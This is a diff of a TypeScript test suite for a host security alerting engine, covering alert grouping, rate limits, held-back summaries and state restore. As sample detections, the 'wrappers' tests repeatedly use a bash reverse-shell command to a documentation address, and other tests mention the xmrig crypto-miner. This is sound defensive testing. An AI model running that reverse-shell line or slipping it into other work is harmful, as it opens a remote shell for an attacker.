@@ -17,6 +17,13 @@ import { hit, POLICY } from './samples.ts';
 
 const START = new Date('2026-05-01T12:00:00.000Z');
 
+/** What all strings in a value take as JSON, without quotes. */
+function encodedStrings(value: unknown): number {
+  if (typeof value === 'string') return Buffer.byteLength(JSON.stringify(value)) - 2;
+  if (typeof value !== 'object' || value === null) return 0;
+  return Object.values(value).reduce((sum: number, each) => sum + encodedStrings(each), 0);
+}
+
 describe('Alerts', () => {
   let time: sinon.SinonFakeTimers;
   let raised: AlertRaised[];
@@ -50,6 +57,12 @@ describe('Alerts', () => {
     alerts.tick();
   };
   const take = (more: Parameters<typeof hit>[0] = {}) => alerts.take(hit({ time: now(), ...more }));
+  let pid = 100;
+  /** Of another process each time. */
+  const takeApart = ({ payload, ...more }: NonNullable<Parameters<typeof hit>[0]> = {}) => {
+    pid += 1;
+    return take({ ...more, payload: { ProcessId: pid, ...payload } });
+  };
   const told = () => raised.map(({ alertId, count }) => [alertId, count] as const);
 
   beforeEach(() => {
@@ -106,7 +119,7 @@ describe('Alerts', () => {
     for (const record of raised) {
       const payload = securityAlert.translate(record, look);
       assert.equal(v.safeParse(securityAlert.payload, payload).success, true);
-      assert.ok(Buffer.byteLength(JSON.stringify(payload)) < 32_000);
+      assert.ok(encodedStrings(payload) <= 4_096, `${encodedStrings(payload)}`);
     }
     assert.equal(raised.length, 2);
   });
@@ -170,22 +183,129 @@ describe('Alerts', () => {
       );
     });
 
-    it('keeps users, programs and addresses apart, and rules', () => {
-      take();
-      take({ fields: { User: 'bob' } });
-      take({ fields: { Image: '/tmp/other' } });
-      take({ fields: { DestinationIp: '192.0.2.1' } });
-      take({ rule: { id: 'another' } });
-      take({ view: { Image: '/usr/bin/xmrig', CommandLine: 'xmrig' } });
-      take({ fields: { CommandLine: '/tmp/xmrig --other' } });
+    it('raises an alert for each user, rule, selection and command line of a start, whatever program runs it', () => {
+      const selected = { selections: ['key'] };
+      takeApart(selected);
+      takeApart({ ...selected, fields: { User: 'bob' } });
+      takeApart({ ...selected, rule: { id: 'another' } });
+      takeApart({ selections: ['sudoers'] });
+      takeApart({ ...selected, fields: { CommandLine: '/tmp/xmrig --other' } });
+      takeApart({ ...selected, view: { Image: '/usr/bin/xmrig', CommandLine: 'xmrig' } });
+      assert.equal(raised.length, 6);
+      takeApart({ ...selected, fields: { Image: '/tmp/other' } });
+      takeApart({ ...selected, fields: { CommandLine: '/tmp/xmrig   -o pool' } });
       assert.equal(raised.length, 6);
     });
 
+    it('raises an alert for each program and remote address of a connection', () => {
+      const connection = { source: 'network_connection' as const, selections: ['c'] };
+      for (const DestinationIp of ['192.0.2.1', '192.0.2.2', '192.0.2.1'])
+        take({ ...connection, fields: { DestinationIp } });
+      take({ ...connection, fields: { DestinationIp: '192.0.2.1', Image: '/tmp/other' } });
+      assert.equal(raised.length, 3);
+    });
+
+    it('raises an alert for each group of a correlation, not for each parent process', () => {
+      const group = (RemoteAddress: string, ParentProcessId: string) =>
+        take({
+          count: 10,
+          selections: ['f'],
+          group: [
+            { name: 'RemoteAddress', value: RemoteAddress },
+            { name: 'ParentProcessId', value: ParentProcessId },
+          ],
+        });
+      group('192.0.2.1', '1');
+      group('192.0.2.1', '2');
+      group('192.0.2.2', '3');
+      assert.equal(raised.length, 2);
+    });
+
     it('uses the fields that the rule names', () => {
-      const key = { rule: { key: ['CommandLine'] } };
-      take(key);
-      take({ ...key, fields: { User: 'bob' } });
-      take({ ...key, fields: { CommandLine: 'x' } });
+      const key = { rule: { key: ['Image'] } };
+      takeApart(key);
+      takeApart({ ...key, fields: { User: 'bob', CommandLine: 'x' } });
+      takeApart({ ...key, fields: { Image: '/tmp/other' } });
+      assert.equal(raised.length, 2);
+    });
+
+    it('sends different evidence of an open alert within a minute, and a mere repetition only when the window closes', () => {
+      take({ payload: { ProcessId: 1 } });
+      pass(seconds(10));
+      take({ payload: { ProcessId: 2 } });
+      pass(minutes(2));
+      assert.equal(raised.length, 1);
+      take({ fields: { Image: '/tmp/other', ParentImage: '/bin/sh' } });
+      alerts.tick();
+      const [first, update] = raised;
+      assert.deepEqual(told(), [
+        [first?.alertId, 1],
+        [first?.alertId, 3],
+      ]);
+      assert.deepEqual([update?.parentExecutable, update?.subject.Executable], ['/bin/sh', '/tmp/other']);
+      take({ fields: { Image: '/tmp/third' } });
+      pass(seconds(59));
+      assert.equal(raised.length, 2);
+      pass(seconds(1));
+      assert.equal(raised.at(-1)?.count, 4);
+    });
+
+    it('sends at most five such updates of an alert', () => {
+      for (let n = 0; n < 40; n += 1) {
+        take({ fields: { Image: `/tmp/${n}` } });
+        pass(minutes(1));
+      }
+      assert.equal(raised.length, 6);
+      pass(minutes(20));
+      assert.deepEqual([raised.length, raised.at(-1)?.count], [7, 40]);
+    });
+  });
+
+  describe('wrappers', () => {
+    const payload = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+    const start = (
+      CommandLine: string,
+      ProcessId: number,
+      ParentProcessId: number,
+      more: Parameters<typeof hit>[0] = {},
+    ) =>
+      take({
+        selections: ['shellToDevice'],
+        ...more,
+        fields: { CommandLine, ...more.fields },
+        payload: { ProcessId, ParentProcessId, ...more.payload },
+      });
+
+    it('count what they start for the same alert', () => {
+      start(`timeout 5 nohup bash -c ${payload}`, 10, 1);
+      start(`nohup bash -c ${payload}`, 11, 10);
+      start(`bash -c ${payload}`, 11, 10, { fields: { User: 'nobody' } });
+      start('bash -i', 12, 11, { selections: ['other'] });
+      assert.deepEqual(alerts.accounts(), { hits: 4, alerts: 2, counted: 2, suppressed: {} });
+      pass(minutes(59));
+      assert.equal(raised.length, 2, 'no update of an alert that says it all');
+    });
+
+    it('count a line that a shell quotes', () => {
+      start(`sh -c nohup bash -c "${payload}" &`, 10, 1);
+      start(`nohup bash -c ${payload}`, 10, 1);
+      assert.equal(raised.length, 1);
+    });
+
+    it('hide no other line, no line of another process, and nothing later', () => {
+      start(`timeout 5 bash -c ${payload}`, 10, 1);
+      start(`bash -c ${payload.replace('.9/', '.10/')}`, 11, 10);
+      start(`bash -c ${payload}`, 12, 1);
+      assert.equal(raised.length, 3);
+      start(`nohup bash -c ${payload}; :`, 20, 1);
+      time.tick(seconds(10));
+      start(`bash -c ${payload}; :`, 20, 1);
+      assert.equal(raised.length, 5);
+    });
+
+    it('hide no line that the alert may not show', () => {
+      start(`sh -c ${'x'.repeat(2_000)}; nohup bash -c ${payload}`, 10, 1);
+      start(`nohup bash -c ${payload}`, 11, 10);
       assert.equal(raised.length, 2);
     });
 
@@ -214,95 +334,136 @@ describe('Alerts', () => {
 
   describe('limits', () => {
     const different = (count: number, more: Parameters<typeof hit>[0] = {}) => {
-      for (let n = 0; n < count; n += 1) take({ ...more, fields: { Image: `/tmp/${n}`, ...more.fields } });
+      for (let n = 0; n < count; n += 1) takeApart({ ...more, fields: { CommandLine: `/tmp/${n}`, ...more.fields } });
     };
+    const heldBack = () => raised.filter(({ details }) => details?.HeldBack !== undefined);
 
-    it('allows 20 new alerts of a rule in an hour, and tells the others once', () => {
+    it('allow 20 new alerts of a rule at once, and send one summary of the others at once', () => {
       different(30);
-      assert.equal(raised.length, 20);
       assert.deepEqual(alerts.accounts(), { hits: 30, alerts: 20, counted: 0, suppressed: { ruleLimit: 10 } });
+      const [summary, ...others] = raised.slice(20);
+      assert.deepEqual([others.length, summary?.count, summary?.alertType], [0, 1, 'IoT_CryptoMiner']);
+      assert.deepEqual(summary?.details, {
+        HeldBack: '1 held back, no user (process_creation)',
+        HeldBackTypes: 'IoT_CryptoMiner 1',
+      });
+      pass(minutes(1));
+      const update = raised.at(-1);
+      assert.deepEqual([raised.length, update?.count, update?.alertId], [22, 10, summary?.alertId]);
+      assert.match(update?.details?.HeldBack ?? '', /^10 held back/);
       pass(hours(1));
-      const summary = raised.at(-1);
-      assert.deepEqual([raised.length, summary?.count, summary?.alertType], [21, 10, 'IoT_CryptoMiner']);
-      assert.match(summary?.details?.Summary ?? '', /^10 more/);
+      assert.equal(raised.length, 22, 'and no more while nothing is held back');
       different(1);
-      assert.equal(raised.length, 22);
+      assert.equal(raised.length, 23);
     });
 
-    it('allows 120 new alerts in an hour, with one summary a type, of the highest severity', () => {
-      for (let n = 0; n < 7; n += 1) different(20, { rule: { id: `r${n}`, alert: `T${n}`, level: 'low' } });
-      assert.equal(raised.length, 120);
-      take({ rule: { id: 'r0', alert: 'T6', level: 'critical' }, fields: { Image: '/tmp/x' } });
-      take({ rule: { id: 'other', alert: 'T9', level: 'low' } });
-      pass(hours(1));
-      const summaries = raised.slice(120).map(({ alertType, count, severity }) => `${alertType} ${count} ${severity}`);
-      assert.deepEqual(summaries, ['T6 21 critical', 'T9 1 low']);
-      assert.deepEqual(alerts.accounts().suppressed, { ruleLimit: 1, deviceLimit: 21 });
-    });
-
-    it('raises the first urgent alert of a rule and a user also above them', () => {
-      const by = (UserId: string, id: string, level: AlertLevel = 'high') =>
-        take({ rule: { id, alert: id, level }, payload: { UserId }, fields: { Image: `/tmp/${id}` } });
-      different(30, { payload: { UserId: '1000' } });
+    it('leave the alerts of other users alone when one user exceeds them', () => {
       for (let n = 0; n < 6; n += 1)
+        different(20, { rule: { id: `r${n}`, level: 'low' }, payload: { UserId: '2001' } });
+      assert.equal(alerts.accounts().alerts, 60);
+      assert.equal(heldBack().length, 1);
+      for (const payload of [{ UserId: '0' }, { UserId: '33' }, { UserId: '2002' }, { ContainerId: 'c' }, {}]) {
+        const before = raised.length;
+        different(20, { rule: { id: 'medium', level: 'medium' }, payload, fields: { User: JSON.stringify(payload) } });
+        assert.equal(raised.length, before + 20, JSON.stringify(payload));
+      }
+    });
+
+    it('count a login, its programs with other privileges, and its containers for one user', () => {
+      const by = (payload: Record<string, string>, n: number) =>
+        takeApart({ payload, rule: { level: 'low' }, fields: { CommandLine: `${n}` } });
+      for (let n = 0; n < 20; n += 1) by({ LoginUserId: '1000', UserId: String(n % 2) }, n);
+      by({ LoginUserId: '1000', ContainerId: 'c', UserId: '0' }, 200);
+      assert.deepEqual([raised.length, heldBack()[0]?.details?.HeldBack], [21, '1 held back, user 1000']);
+      by({ UserId: '0' }, 300);
+      assert.equal(heldBack().length, 1);
+    });
+
+    it('count all ids of a block of subordinate ids for one user', () => {
+      for (let n = 0; n < 30; n += 1)
+        takeApart({
+          payload: { UserId: String(100_000 + n) },
+          rule: { level: 'low' },
+          fields: { CommandLine: `${n}` },
+        });
+      assert.deepEqual([raised.length, heldBack()[0]?.details?.HeldBack], [21, '1 held back, user block 1']);
+    });
+
+    it('always allow the first alert of a rule and a user at medium or above', () => {
+      const by = (UserId: string, id: string, level: AlertLevel) =>
+        takeApart({ rule: { id, alert: id, level }, payload: { UserId }, fields: { CommandLine: `/tmp/${id}` } });
+      for (let n = 0; n < 4; n += 1)
         different(20, { rule: { id: `r${n}`, level: 'low' }, payload: { UserId: '1000' } });
-      assert.equal(raised.length, 120);
-      by('0', hit().rule.id);
-      by('0', hit().rule.id);
-      by('1000', hit().rule.id);
+      const before = alerts.accounts().alerts;
       by('1000', 'shell', 'critical');
-      by('1000', 'other', 'medium');
-      const told = raised.slice(120).map(({ alertType, subject }) => `${alertType} of ${subject.UserId}`);
-      assert.deepEqual(told, [`${hit().rule.id} of 0`, 'shell of 1000']);
+      by('1000', 'medium', 'medium');
+      by('1000', 'low', 'low');
+      assert.equal(alerts.accounts().alerts, before + 2);
       restart();
-      take({ rule: { id: 'shell', alert: 'shell', level: 'critical' }, payload: { UserId: '1000' } });
-      assert.equal(raised.length, 122);
+      takeApart({ rule: { id: 'medium', alert: 'medium', level: 'medium' }, payload: { UserId: '1000' } });
+      assert.equal(alerts.accounts().alerts, 0, 'it was not the first');
     });
 
-    it('raises 60 of them, of one user 30', () => {
-      const urgent = (UserId: string) => {
-        const before = raised.length;
-        for (let n = 0; n < 99; n += 1)
-          take({ rule: { id: `urgent ${n}` }, payload: { UserId }, fields: { Image: UserId } });
-        return raised.length - before;
-      };
-      for (let n = 0; n < 6; n += 1) different(20, { rule: { id: `r${n}`, level: 'low' } });
-      const each = ['1000', '0', '1', '2', '3', '4', '5'].map(urgent);
-      assert.deepEqual(each, [30, 15, 8, 4, 2, 1, 0]);
-      pass(hours(1));
-      assert.equal(urgent('1000'), 99);
+    it('bound these first alerts of a user', () => {
+      for (let n = 0; n < 300; n += 1)
+        takeApart({ rule: { id: `own ${n}` }, payload: { UserId: '1000' }, fields: { CommandLine: `${n}` } });
+      assert.equal(alerts.accounts().alerts, 60 + 120);
     });
 
-    it('takes all users of a container for one, who leaves some to root of the host', () => {
-      const urgent = (UserId: string, ContainerId?: string) => {
-        const before = raised.length;
-        const payload = { UserId, ...(ContainerId === undefined ? {} : { ExtraDetails: { ContainerId } }) };
-        for (let n = 0; n < 99; n += 1) take({ rule: { id: `urgent ${n}` }, payload, fields: { Image: UserId } });
-        return raised.length - before;
-      };
-      for (let n = 0; n < 6; n += 1) different(20, { rule: { id: `r${n}`, level: 'low' } });
-      for (let user = 10_000; user < 10_100; user += 1) urgent(String(user), '0');
-      assert.equal(raised.length, 120 + 30);
-      assert.equal(urgent('0'), 15, 'although the name of the container is that of root');
+    it('refill while time passes', () => {
+      different(25);
+      assert.equal(alerts.accounts().alerts, 20);
+      pass(minutes(9));
+      for (let n = 100; n < 110; n += 1) takeApart({ fields: { CommandLine: `/tmp/${n}` } });
+      assert.equal(alerts.accounts().alerts, 23);
     });
 
-    it('still counts hits of open alerts above a limit', () => {
+    it('still count hits of open alerts', () => {
       different(25);
       different(20);
       assert.deepEqual(alerts.accounts(), { hits: 45, alerts: 20, counted: 20, suppressed: { ruleLimit: 5 } });
     });
 
-    it('slides: an hour after each alert, another one is allowed', () => {
-      for (let n = 0; n < 20; n += 1) {
-        take({ fields: { Image: `/tmp/${n}` } });
-        pass(minutes(2));
+    it('show the latest evidence that is held back, each minute at first and then hourly', () => {
+      different(21);
+      const summaries = () => heldBack().length;
+      for (let n = 0; n < 30; n += 1) {
+        takeApart({ fields: { CommandLine: `flood ${n}` }, rule: { level: 'low' } });
+        pass(minutes(1) - 1);
+        for (let more = 0; more < 20; more += 1) takeApart({ fields: { CommandLine: `more ${n} ${more}` } });
+        pass(1);
       }
-      take({ fields: { Image: '/tmp/x' } });
-      assert.equal(raised.length, 20);
-      pass(minutes(20));
-      take({ fields: { Image: '/tmp/y' } });
-      take({ fields: { Image: '/tmp/z' } });
-      assert.equal(alerts.accounts().alerts, 21);
+      assert.ok(summaries() >= 11 && summaries() <= 13, `${summaries()}`);
+      assert.match(String(heldBack().at(-1)?.subject.CommandLine), /^more \d+ \d+/);
+    });
+
+    it('show another kind of hit within a minute, whatever flood it is in', () => {
+      const flood = () => {
+        for (let n = 0; n < 50; n += 1) takeApart({ selections: ['key'], fields: { CommandLine: `${now()} ${n}` } });
+      };
+      for (let n = 0; n < 40; n += 1) {
+        flood();
+        pass(minutes(1));
+      }
+      const before = raised.length;
+      takeApart({ selections: ['sudoers'], fields: { CommandLine: 'echo real' }, rule: { level: 'high' } });
+      if (alerts.accounts().suppressed.ruleLimit === undefined) assert.fail('it was not held back');
+      flood();
+      time.tick(seconds(2));
+      flood();
+      pass(minutes(1));
+      const since = raised.slice(before).map(({ subject }) => subject.CommandLine);
+      assert.ok(since.includes('echo real'), JSON.stringify(since));
+    });
+
+    it('keep the rows of other users in the list of the last alerts', () => {
+      takeApart({ payload: { UserId: '0' } });
+      const id = raised[0]?.alertId ?? '';
+      for (let n = 0; n < 400; n += 1) {
+        takeApart({ payload: { UserId: '1000' }, fields: { CommandLine: `${n}`, User: 'u' } });
+        pass(minutes(3));
+      }
+      assert.ok(alerts.history.list().length === 200 && alerts.history.has(id));
     });
   });
 
@@ -356,7 +517,7 @@ describe('Alerts', () => {
     });
 
     it('is told to the caller, who is not to take a hit above a limit for a suppressed one', () => {
-      const isTold = Array.from({ length: 27 }, (_, n) => take({ fields: { Image: `/tmp/${Math.max(1, n)}` } }));
+      const isTold = Array.from({ length: 27 }, (_, n) => take({ fields: { CommandLine: `/tmp/${Math.max(1, n)}` } }));
       assert.ok(isTold.every((told) => told));
       assert.ok((alerts.accounts().suppressed.ruleLimit ?? 0) > 0);
       for (const change of [
@@ -443,19 +604,43 @@ describe('Alerts', () => {
       );
     });
 
-    it('does not lift limits, and keeps what is to be summarized', () => {
-      for (let n = 0; n < 25; n += 1) take({ fields: { Image: `/tmp/${n}` } });
+    it('keeps limits, and continues the summary of held-back alerts', () => {
+      for (let n = 0; n < 25; n += 1) take({ fields: { CommandLine: `/tmp/${n}` } });
+      const { alertId } = raised.at(-1) ?? {};
       restart();
-      take({ fields: { Image: '/tmp/x' } });
-      assert.equal(raised.length, 20);
+      take({ fields: { CommandLine: '/tmp/x' } });
+      assert.equal(raised.length, 21);
       const saved = JSON.parse(JSON.stringify(alerts.toJson()));
       time.setSystemTime(START.getTime() - days(3_000));
       alerts = create();
       alerts.restore(saved);
-      take({ fields: { Image: '/tmp/y' } });
-      assert.equal(raised.length, 20);
+      take({ fields: { CommandLine: '/tmp/y' } });
+      assert.equal(raised.length, 21);
+      pass(minutes(1));
+      assert.deepEqual([raised.length, raised.at(-1)?.count, raised.at(-1)?.alertId], [22, 7, alertId]);
+    });
+
+    it('continues with the state of the previous release', () => {
+      take();
+      take();
+      const { alertId } = raised[0] ?? {};
+      const { open, held: _, limits: __, ...saved } = JSON.parse(JSON.stringify(alerts.toJson()));
+      const before = open.map(({ key, alert, told, ageMs }: Record<string, unknown>) => ({ key, alert, told, ageMs }));
+      const [limits, firsts] = [
+        { ruleLimits: [{ rule: 'x', agesMs: [5] }], deviceLimit: [5] },
+        { raised: [['x', 5]], extra: [] },
+      ];
+      alerts = create();
+      alerts.restore({
+        ...saved,
+        ...limits,
+        firsts,
+        open: before,
+        limited: [{ type: 'T', alert: open[0].alert, ageMs: 5 }],
+      });
+      take();
       pass(hours(1));
-      assert.equal(raised.at(-1)?.count, 7);
+      assert.deepEqual(told().at(-1), [alertId, 3]);
     });
 
     it('gives an alert the same id again when it was killed before it saved its state', () => {
@@ -543,7 +728,7 @@ describe('Alerts', () => {
         time = sinon.useFakeTimers({ now: START });
         [raised, early, logged, policy] = [[], [], [], POLICY];
         alerts = create();
-        const births: { at: number; rule: string }[] = [];
+        const births: { at: number; rule: string; user: number }[] = [];
         let before = 0;
         let hits = 0;
         const check = () => {
@@ -557,13 +742,14 @@ describe('Alerts', () => {
             for (let n = 0; n < one.times; n += 1) {
               const had = alerts.accounts().alerts;
               const id = String(one.rule);
+              const user = (one.user + n) % 7;
               take({
                 rule: { id, alert: `T${id}`, level: one.rule > 5 ? 'high' : 'low' },
                 fields: { User: `u${(one.user + n) % 50}` },
-                payload: { UserId: String((one.user + n) % 7) },
+                payload: { UserId: String(user) },
               });
               hits += 1;
-              if (alerts.accounts().alerts > had) births.push({ at: systemClock.monotonic(), rule: id });
+              if (alerts.accounts().alerts > had) births.push({ at: systemClock.monotonic(), rule: id, user });
             }
           } else if ('pass' in one) pass(one.pass);
           else if ('clock' in one) time.setSystemTime(now() + days(one.clock));
@@ -576,11 +762,10 @@ describe('Alerts', () => {
           }
           check();
         }
-        for (const { at, rule } of births) {
-          const within = births.filter((other) => other.at >= at && other.at < at + hours(1));
-          assert.ok(within.length <= 120 + 60);
-          const most = Number(rule) > 5 ? 20 + 60 : 20;
-          assert.ok(within.filter((other) => other.rule === rule).length <= most);
+        for (const { at, rule, user } of births) {
+          const within = births.filter((other) => other.user === user && other.at >= at && other.at < at + hours(1));
+          assert.ok(within.length <= 60 + 60 + 120);
+          assert.ok(within.filter((other) => other.rule === rule).length <= 20 + 20 + 1);
         }
         for (const [index, at] of early.entries()) assert.ok(index === 0 || at - (early[index - 1] ?? 0) >= minutes(1));
       }),
@@ -594,6 +779,7 @@ describe('Alerts', () => {
         [raised, policy] = [[], POLICY];
         alerts = create();
         for (const user of users) take({ fields: { User: `u${user}` } });
+        pass(hours(1));
         pass(hours(1));
         const last = new Map(raised.map(({ alertId, count }) => [alertId, count]));
         assert.equal(
